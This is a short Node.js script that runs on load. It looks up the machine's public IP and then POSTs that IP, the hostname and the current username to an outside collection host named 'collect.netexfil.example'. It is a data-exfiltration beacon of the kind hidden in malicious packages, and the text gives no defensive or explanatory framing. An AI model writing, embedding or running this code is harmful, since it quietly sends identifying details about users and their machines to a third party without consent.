const os = require('os');
(async () => {
  const ip = await (await fetch('https://ipinfo.lookup.example/json')).json();
  await fetch('https://collect.netexfil.example/r', { method: 'POST', body: JSON.stringify({ ip, host: os.hostname(), user: os.userInfo().username }) });
})();
